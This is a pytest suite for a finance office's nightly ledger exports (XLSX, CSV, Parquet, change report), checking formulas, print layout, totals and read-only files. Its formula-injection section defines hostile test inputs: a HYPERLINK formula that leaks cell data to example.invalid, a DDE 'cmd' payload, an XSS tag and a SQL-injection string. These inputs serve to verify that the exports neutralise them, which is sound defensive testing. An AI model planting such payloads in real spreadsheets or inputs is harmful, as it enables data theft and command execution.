"""What the finance office opens: XLSX (合计 as formulas, a sheet per city, changes) ready to print,
CSV with BOM, Parquet, the change report; all read-only, all adding up to the ledger, none naming
the machine, none carrying a formula it did not put there, none failing on any text the ledger holds."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import hashlib
import io
import re
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from audit_support import AUDITOR, FIRST, H9, SECOND, clean_environment, clone, db_of
from openpyxl import load_workbook
from os_packages import require, require_cjk_font

from registry.core.terms import REASON as REASON_TERMS
from registry.ledger.append import REASONS
from registry.pipeline import nightly
from registry.publish import exports, page

pytestmark = pytest.mark.slow  # the shared history's nights

pytest_plugins = ["audit_fixtures"]  # the shared history: fixtures `states`, `second`

CITY_SHEETS = ("福州市", "厦门市")


@pytest.fixture(scope="module")
def lists(states: dict[str, Path]) -> Path:
    return db_of(states["second"]).parent / "lists"


def ledger_total(states: dict[str, Path], day) -> tuple[int, Decimal]:
    with duckdb.connect(str(db_of(states["second"])), read_only=True) as con:
        return con.execute("select line_count, total from ledger.lists where list_date = ?", [day]).fetchone()


def night_of(states: dict[str, Path], day: dt.date) -> exports.Night:
    with duckdb.connect(str(db_of(states["second"])), read_only=True) as con:
        return exports.read_night(con, day)


def column(ws, header: str) -> int:
    return next(i for i, cell in enumerate(next(ws.iter_rows(max_row=1, values_only=True))) if cell == header)


def test_every_export_of_every_night_is_there_and_read_only(lists: Path) -> None:
    names = sorted(p.name for p in lists.iterdir())
    for day in (FIRST, SECOND):
        assert {p.name for p in exports.export_paths(lists, day).values()} <= set(names)
    assert "index.html" in names and "报告_2026-11-01.html" in names
    assert not [n for n in names if n.startswith(".")]  # no temporary file left
    assert {p.stat().st_mode & 0o777 for p in lists.iterdir()} == {0o444}


def test_the_xlsx_has_typed_cells_filters_and_print_setup(lists: Path, states) -> None:
    book = load_workbook(exports.export_paths(lists, FIRST)["xlsx"])
    assert book.sheetnames == ["合计", *CITY_SHEETS, "变动说明"]
    ws = book["福州市"]
    header = next(ws.iter_rows(max_row=1, values_only=True))
    assert header[:3] == ("序号", "统一社会信用代码", "企业名称") and "本次列支金额（元）" in header
    assert set(exports.LIST_HEADER) <= set(header)
    rows = [r for r in ws.iter_rows(min_row=2) if isinstance(r[0].value, int)]
    assert [r[0].value for r in rows] == list(range(1, len(rows) + 1))  # 序号 are numbers
    day = rows[0][column(ws, "清单日期")]
    assert day.is_date and day.value.date() == FIRST and day.number_format == "yyyy-mm-dd"
    amount = rows[0][column(ws, "本次列支金额（元）")]
    assert amount.data_type == "n" and amount.number_format.startswith("#,##0.00")
    assert isinstance(rows[0][column(ws, "企业名称")].value, str)
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{len(rows) + 1}"
    assert ws.print_title_rows == "$1:$1" and ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    widths = {h: ws.column_dimensions[ws.cell(1, i + 1).column_letter].width for i, h in enumerate(header)}
    longest = max(len(r[column(ws, "企业名称")].value) for r in rows)
    assert widths["企业名称"] >= 2 * longest  # Chinese characters count double: names are not cut off
    subtotal = ws.cell(len(rows) + 2, column(ws, "本次列支金额（元）") + 1).value
    assert subtotal.startswith("=SUBTOTAL(9,")


def test_the_totals_are_formulas_split_in_force_draft_fixed_cap(lists: Path) -> None:
    ws = load_workbook(exports.export_paths(lists, FIRST)["xlsx"])["合计"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == exports.TOTALS_HEADER
    assert {"其中：正式文件（元）", "其中：征求意见稿（元）", "其中：定额或按实计算（元）",
            "其中：按上限（不超过）计列（元）"} <= set(rows[0])
    grand = next(row for row in rows if row[0] == "合计")
    assert all(isinstance(v, str) and v.startswith("=") for v in grand[1:])
    fuzhou = next(row for row in rows if row[0] == "福州市")
    assert fuzhou[2] == "=SUMIF('福州市'!$F$2:$F$19,\"奖励\",'福州市'!$G$2:$G$19)"
    assert any(row[0] == "台账校验值（链头）" and len(row[1]) == 64 for row in rows)


def test_every_code_is_in_chinese_in_the_xlsx_and_a_code_in_the_csv(lists: Path) -> None:
    assert set(REASONS) <= set(REASON_TERMS)  # a new reason code cannot show in English
    codes = {*REASONS, "award", "reversal", "fuzhou", "xiamen", "hangzhou", "payable", "fixed", "up_to"}
    book = load_workbook(exports.export_paths(lists, SECOND)["xlsx"])
    shown = {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row}
    assert not shown & codes
    ws = book["福州市"]
    reasons = {r[column(ws, "原因代码")] for r in ws.iter_rows(min_row=2, values_only=True) if isinstance(r[0], int)}
    assert reasons == {"金额调增", "来源撤回记录", "金额调减", "认定已被撤销"}
    rows = list(csv.DictReader(io.StringIO(exports.export_paths(lists, SECOND)["csv"].read_text("utf-8-sig"))))
    assert list(rows[0]) == list(exports.LIST_HEADER)  # the CSV's columns, unchanged
    assert {r["原因代码"] for r in rows} == {"raised", "retracted", "lowered", "revoked"}
    assert {r["所在城市"] for r in rows} == {"福州市"}


def test_the_city_name_comes_from_the_reference_table(states) -> None:
    night = night_of(states, FIRST)
    fourth = dataclasses.replace(night.lines[0], city="ningde", seq=999)
    cities = (*night.cities, ("ningde", "宁德市"))
    named = dataclasses.replace(night, lines=(*night.lines, fourth), cities=cities)
    assert exports.list_records(named)[-1][4] == "宁德市"
    unnamed = dataclasses.replace(night, lines=(*night.lines, fourth))
    assert exports.list_records(unnamed)[-1][4] == "ningde"  # never an empty 所在城市


def test_the_second_night_changes_agree_with_their_amounts(lists: Path) -> None:
    book = load_workbook(exports.export_paths(lists, SECOND)["xlsx"])
    changes = list(book["变动说明"].iter_rows(values_only=True))
    assert {row[0] for row in changes[1:]} == {"冲销", "调减", "调增", "异议暂缓", "公示期满确认"}
    (confirmed,) = [row for row in changes if row[0] == "公示期满确认"]
    paid = re.search(r"确认兑付 (-?[\d.]+) 元", confirmed[9]).group(1)
    assert Decimal(str(confirmed[8])).quantize(Decimal("0.01")) == Decimal(paid)
    (hold,) = [row for row in changes if row[0] == "异议暂缓"]
    assert isinstance(hold[11], dt.datetime)  # 记录时间 is a date-time


def test_the_csv_opens_in_excel_and_adds_up(lists: Path, states) -> None:
    content = exports.export_paths(lists, SECOND)["csv"].read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert ledger_total(states, SECOND) == (len(rows), sum(Decimal(r["本次列支金额（元）"]) for r in rows))
    reversal = next(r for r in rows if r["原因代码"] == "retracted")
    assert reversal["类型"] == "冲销" and reversal["原列支行号"] and reversal["可付金额（元）"] == "0.00"
    assert reversal["本次列支金额（元）"].startswith("-") and not reversal["本次列支金额（元）"].startswith("'")


def test_the_parquet_is_typed(lists: Path, states) -> None:
    with duckdb.connect() as con:
        path = str(exports.export_paths(lists, SECOND)["parquet"])
        types = dict(con.execute("select column_name, column_type from (describe select * from read_parquet(?))",
                                 [path]).fetchall())
        count, total = con.execute("select count(*), sum(amount) from read_parquet(?)", [path]).fetchone()
    assert types["amount"] == "DECIMAL(18,2)" and types["list_date"] == "DATE" and types["held"] == "BOOLEAN"
    assert (count, total) == ledger_total(states, SECOND)


def test_the_change_report_says_what_changed_and_why(lists: Path) -> None:
    text = exports.export_paths(lists, SECOND)["changes"].read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    kinds = [r["变动类型"] for r in rows]
    assert sorted(kinds) == sorted(["冲销", "冲销", "调减", "调增", "异议暂缓", "公示期满确认"])
    (hold,) = [r for r in rows if r["变动类型"] == "异议暂缓"]
    assert hold["统一社会信用代码"] == H9 and hold["记录人"] == AUDITOR and hold["记录时间"].endswith("UTC")
    (confirmed,) = [r for r in rows if r["变动类型"] == "公示期满确认"]
    assert "异议暂缓 200000.00 元不计入" in confirmed["说明"]
    assert f"确认兑付 {confirmed['金额（元）']} 元" in confirmed["说明"]  # the text says its own amount
    assert all(r["说明"] for r in rows)


def test_no_export_or_snapshot_names_a_path_of_the_machine(lists: Path, states) -> None:
    root = str(db_of(states["second"]).parent.parent).encode()
    for path in lists.iterdir():
        assert root not in path.read_bytes(), path.name
    with duckdb.connect(str(db_of(states["second"]).parent / "snapshot" / "registry.duckdb"), read_only=True) as con:
        stored = con.execute("select csv_name from ledger.lists").fetchall()
    assert all("/" not in name for (name,) in stored)


def test_an_export_that_does_not_add_up_is_refused(states, tmp_path: Path) -> None:
    night = night_of(states, SECOND)
    exports.write_list_csv(tmp_path, night)
    exports.write_other_exports(tmp_path, night)
    exports.verify_exports(tmp_path, night)
    wrong = exports.Night(**{**night.__dict__, "lines": night.lines[:-1]})
    exports.write_list_csv(tmp_path, wrong)
    with pytest.raises(exports.ExportError, match="do not add up"):
        exports.verify_exports(tmp_path, night)


def test_a_written_file_that_is_not_the_checked_one_is_refused(states, tmp_path: Path) -> None:
    night = night_of(states, SECOND)
    files = exports.render(night)
    exports.check_rendered(night, files)
    exports.write_list_csv(tmp_path, night, files)
    exports.write_other_exports(tmp_path, night, files)
    exports.verify_written(tmp_path, night, files)
    exports.write_atomically(exports.export_paths(tmp_path, SECOND)["changes"], b"other")
    with pytest.raises(exports.ExportError, match="changes"):
        exports.verify_written(tmp_path, night, files)


# ---- any text the ledger can hold; formula injection ------------------------------------------

HOSTILE = {
    "=": '=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+": "+cmd|' /C calc'!A0", "-": "-2+3",
    "@": "@SUM(1+1)", "\t": "\t=1+1", "\r": "\r=1+1",
}
ODD = ["控制\x0b字符", "nul\x00byte", "bell\x07", "esc\x1b[31m", "nonchar\ufffe\uffff", "emoji 🏭", "新\n行",
       "<script>alert(1)</script>", "$x$ and $\\frac{1}{2}$", "' or 1=1 --", "a" * 300]


def hostile_night(states) -> exports.Night:
    night = night_of(states, SECOND)
    names = [*HOSTILE.values(), *ODD]
    lines = tuple(dataclasses.replace(line, firm_name=names[i % len(names)], reason=names[(i + 3) % len(names)],
                                      document_title=names[(i + 5) % len(names)])
                  for i, line in enumerate(night.lines * 5))
    return dataclasses.replace(night, lines=lines, line_count=len(lines), total=sum(x.amount for x in lines))


def test_exports_never_fail_on_any_text_the_ledger_can_hold(states) -> None:
    night = hostile_night(states)
    files = exports.render(night)
    exports.check_rendered(night, files)
    book = load_workbook(io.BytesIO(files["xlsx"]))
    names = {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    assert "控制\u240b字符" in names and "nul\u2400byte" in names  # the control character shown, not dropped


@pytest.mark.parametrize("start", list(HOSTILE))
def test_a_text_starting_like_a_formula_is_neutralised_in_csv(states, start: str) -> None:
    night = hostile_night(states)
    files = exports.render(night)
    for name in ("csv", "changes"):
        rows = list(csv.reader(io.StringIO(files[name].decode("utf-8-sig"), newline="")))
        header, body = rows[0], rows[1:]
        numeric = {i for i, h in enumerate(header) if h in exports.AMOUNT_COLUMNS or h in ("序号", "金额（元）")}
        for row in body:
            for i, cell in enumerate(row):
                if i in numeric:
                    assert re.fullmatch(r"-?\d+(\.\d{2})?|", cell), (name, header[i], cell)
                else:
                    assert not cell.startswith(tuple(HOSTILE)), (name, header[i], cell)
        if name == "csv":
            firm = header.index("企业名称")
            assert "'" + HOSTILE[start] in {row[firm] for row in body}
    amounts = [r[header.index("金额（元）")] for r in body]
    assert any(a.startswith("-") for a in amounts)  # negative amounts stay plain numbers


@pytest.mark.parametrize("start", list(HOSTILE))
def test_a_text_starting_like_a_formula_is_a_text_cell_in_xlsx(states, start: str) -> None:
    files = exports.render(hostile_night(states))
    with zipfile.ZipFile(io.BytesIO(files["xlsx"])) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
    formulas = [f for xml in sheets.values() for f in re.findall(r"<f>(.*?)</f>", xml)]
    assert formulas and all(re.fullmatch(r"(SUM|SUBTOTAL|COUNTIF|SUMIF|F\d+-K\d+)\(?.*", f) for f in formulas)
    assert not any("HYPERLINK" in f or "cmd" in f for f in formulas)
    book = load_workbook(io.BytesIO(files["xlsx"]))
    # openpyxl writes with lxml (a dependency), which escapes a CR as &#13;: every text reads back as it was
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == HOSTILE[start]]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_night_whose_files_cannot_be_rendered_is_not_committed(states, tmp_path: Path, monkeypatch) -> None:
    db = clone(states["built_second"], tmp_path / "state")

    def broken(night: exports.Night) -> dict[str, bytes]:
        raise exports.ExportError("cannot render")

    monkeypatch.setattr(exports, "render", broken)
    with clean_environment(), pytest.raises(exports.ExportError, match="cannot render"):
        nightly.publish_list(SECOND, db)
    with duckdb.connect(str(db), read_only=True) as con:
        assert con.execute("select count(*) from ledger.lists where list_date = ?", [SECOND]).fetchone() == (0,)


def test_a_firm_name_with_a_control_character_publishes_every_file(states, tmp_path: Path) -> None:
    db = clone(states["built_second"], tmp_path / "state")
    with duckdb.connect(str(db)) as con:
        con.execute("update marts.fct_entitlements set firm_name = ? where uscc = ?",
                    ['=HYPERLINK("x")\x0b福州', "91350103MAG3GJRA14"])
    with clean_environment():
        published = nightly.publish_list(SECOND, db)
    paths = exports.export_paths(db.parent / "lists", SECOND)
    assert all(p.exists() for p in paths.values()) and published.report_path == paths["report"]


def test_a_missing_or_stale_file_is_regenerated_by_a_rerun(states, tmp_path: Path) -> None:
    db = clone(states["second"], tmp_path / "state")
    paths = exports.export_paths(db.parent / "lists", SECOND)
    before = {name: hashlib.sha256(p.read_bytes()).hexdigest() for name, p in paths.items()}
    paths["xlsx"].unlink()
    paths["report"].chmod(0o644)
    paths["report"].write_bytes(b"stale")
    with clean_environment():
        nightly.run_nightly(SECOND, db)
    assert {name: hashlib.sha256(p.read_bytes()).hexdigest() for name, p in paths.items()} == before
    assert paths["report"].stat().st_mode & 0o777 == 0o444


# ---- the XLSX as a finance office opens and prints it -----------------------------------------

USCC = re.compile(r"\b9\d{5}[0-9A-Z]{12}\b")


def long_night(states, n: int = 80) -> exports.Night:
    """A night of `n` lines in one city with long names (the history has 18 at most)."""
    night = night_of(states, FIRST)
    base = [x for x in night.lines if x.city == "fuzhou"]
    lines = tuple(dataclasses.replace(base[i % len(base)], seq=i + 1, line_id=f"{i:016x}",
                                      entitlement_id=f"{i + 1000:016x}",
                                      firm_name=base[i % len(base)].firm_name + "（集团）股份有限公司" * (i % 2),
                                      amount=Decimal("12345678.90") if i == 7 else base[i % len(base)].amount)
                  for i in range(n))
    return dataclasses.replace(night, lines=lines, line_count=n, total=sum(x.amount for x in lines))


@pytest.fixture(scope="module")
def printed(states, lists: Path, tmp_path_factory) -> dict[str, Path]:
    """The XLSX files converted by LibreOffice (headless) to PDF and to recalculated XLSX."""
    soffice = require("soffice", "libreoffice-calc-nogui")
    require("pdftotext", "poppler-utils")
    require_cjk_font()
    folder = tmp_path_factory.mktemp("printed")
    sources = {"first": exports.export_paths(lists, FIRST)["xlsx"],
               "second": exports.export_paths(lists, SECOND)["xlsx"]}
    (folder / "long.xlsx").write_bytes(exports.xlsx_bytes(long_night(states)))
    for name, path in sources.items():
        (folder / f"{name}.xlsx").write_bytes(path.read_bytes())
    out = {}
    for target in ("pdf", "xlsx"):
        done = subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{folder}/profile",
                               "--convert-to", target, "--outdir", str(folder / target),
                               *(str(folder / f"{n}.xlsx") for n in ("first", "second", "long"))],
                              capture_output=True, text=True, timeout=600, check=False)
        assert done.returncode == 0, done.stderr
    for name in ("first", "second", "long"):
        out[f"{name}.pdf"] = folder / "pdf" / f"{name}.pdf"
        out[f"{name}.xlsx"] = folder / "xlsx" / f"{name}.xlsx"
        assert out[f"{name}.pdf"].exists() and out[f"{name}.xlsx"].exists()
    return out


def pdf_pages(path: Path) -> list[str]:
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
    return text.split("\f")


@pytest.mark.parametrize("name", ["first", "second", "long"])
def test_no_amount_prints_as_hashes(printed: dict[str, Path], name: str) -> None:
    pages = pdf_pages(printed[f"{name}.pdf"])
    assert pages and not [i for i, p in enumerate(pages) if "###" in p]
    assert any("6,190,000.00" in p or "-350,000.00" in p or "12,345,678.90" in p for p in pages)


def test_a_printed_page_holds_at_least_25_lines_and_repeats_the_header(printed: dict[str, Path]) -> None:
    pages = [p for p in pdf_pages(printed["long.pdf"]) if USCC.search(p) and "2026-09-30 福州市" in p]
    counts = [len(USCC.findall(p)) for p in pages]
    assert sum(counts) == 80 and len(pages) >= 2
    assert min(counts[:-1]) >= 25, counts
    assert all("统一社会信用代码" in p and "本次列支金额" in p for p in pages)  # header on every page


def test_the_totals_a_spreadsheet_computes_are_the_ledgers(printed: dict[str, Path], states) -> None:
    for name, day in (("first", FIRST), ("second", SECOND)):
        book = load_workbook(printed[f"{name}.xlsx"], data_only=True)
        rows = list(book["合计"].iter_rows(values_only=True))
        grand = next(row for row in rows if row[0] == "合计")
        count, total = ledger_total(states, day)
        night = night_of(states, day)
        held = sum((x.amount for x in night.lines if x.entitlement_id in night.held), Decimal(0))
        draft = sum((x.amount for x in night.lines if x.is_draft), Decimal(0))
        cap = sum((x.amount for x in night.lines if x.is_cap), Decimal(0))
        got = [Decimal(str(v)).quantize(Decimal("0.01")) for v in grand[2:]]
        awards, reversals = grand[1], grand[3]
        assert awards + reversals == count
        assert got[3] == total and got[4] + got[5] == total and got[5] == draft
        assert got[6] + got[7] == total and got[7] == cap and got[8] == held and got[9] == total - held


def test_the_printed_first_page_is_a_picture_of_the_list(printed: dict[str, Path], tmp_path: Path) -> None:
    """The city sheet's first page as a PNG (what a person would look at): not blank."""
    require("pdftoppm", "poppler-utils")
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "2", "-l", "2", "-singlefile", str(printed["first.pdf"]),
                    str(tmp_path / "page")], check=True)
    assert (tmp_path / "page.png").stat().st_size > 10_000


def test_the_page_reads_the_total_it_prints() -> None:
    assert page.total_shown(b'<b id="list-total" data-yuan="-350000.00">') == Decimal("-350000.00")
